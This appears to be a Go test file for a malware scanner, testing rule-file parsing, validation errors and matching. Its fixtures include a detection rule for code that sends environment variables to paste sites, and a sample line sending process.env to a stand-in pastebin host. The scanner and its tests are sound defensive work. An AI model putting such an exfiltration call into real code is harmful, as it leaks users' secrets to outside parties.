package malscan

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRuleFile(t *testing.T) {
	ms, err := ParseRules([]byte(`{"rules":[{"id":"ACME-1","severity":"high","description":"pastes the environment",
		"files":["lib/**","*.js"],"all":[{"string":"process.env"}],"any":[{"regex":"paste(bin)?\\.example"},{"string":"HASTEBIN","nocase":true}]}]}`))
	if err != nil {
		t.Fatal(err)
	}
	s := New(ms...)
	hit := s.Scan(input(map[string]string{"lib/deep/a.ts": "send(process.env, 'https://pastebin.example')"}))
	if len(hit) != 1 || hit[0].ID != "ACME-1" || hit[0].File != "lib/deep/a.ts" {
		t.Fatalf("hit = %+v", hit)
	}
	for _, miss := range []map[string]string{
		{"lib/a.ts": "send(process.env)"},                           // no "any"
		{"docs/a.md": "send(process.env, 'https://paste.example')"}, // not in files
		{"x.js": "send(env, 'hastebin')"},                           // "all" missing
	} {
		if got := s.Scan(input(miss)); len(got) != 0 {
			t.Errorf("%v hit %+v", miss, got)
		}
	}
	if got := s.Scan(input(map[string]string{"x.js": "process.env; hasteBIN"})); len(got) != 1 {
		t.Errorf("nocase did not match: %+v", got)
	}
}

func TestBadRuleFilesSayWhy(t *testing.T) {
	for body, want := range map[string]string{
		`{"rules":[]}`: "no rules",
		`{"rules":[{"id":"A","severity":"bad","description":"d","all":[{"string":"x"}]}]}`:             "severity",
		`{"rules":[{"id":"A","severity":"low","description":"","all":[{"string":"x"}]}]}`:              "description",
		`{"rules":[{"id":"A","severity":"low","description":"d"}]}`:                                    "conditions",
		`{"rules":[{"id":"A","severity":"low","description":"d","all":[{"regex":"("}]}]}`:              "regex",
		`{"rules":[{"id":"A","severity":"low","description":"d","all":[{"strin":"x"}]}]}`:              "unknown field",
		`{"rules":[{"id":"A","severity":"low","description":"d","all":[{"string":"x","regex":"y"}]}]}`: "exactly one",
		`not json`: "not a rule file",
	} {
		_, err := ParseRules([]byte(body))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: err = %v, want %q", body, err, want)
		}
	}
	dir := t.TempDir()
	p := filepath.Join(dir, "r.json")
	os.WriteFile(p, []byte(`{"rules":[{"id":"RAMPART-BINARY-DROPPER","severity":"low","description":"d","all":[{"string":"x"}]}]}`), 0o600)
	if _, err := LoadRuleFiles([]string{p}); err == nil || !strings.Contains(err.Error(), "built-in") || !strings.Contains(err.Error(), p) {
		t.Errorf("duplicate of a built-in id: %v", err)
	}
	if _, err := LoadRuleFiles([]string{filepath.Join(dir, "missing.json")}); err == nil || !strings.Contains(err.Error(), "missing.json") {
		t.Errorf("missing file: %v", err)
	}
}
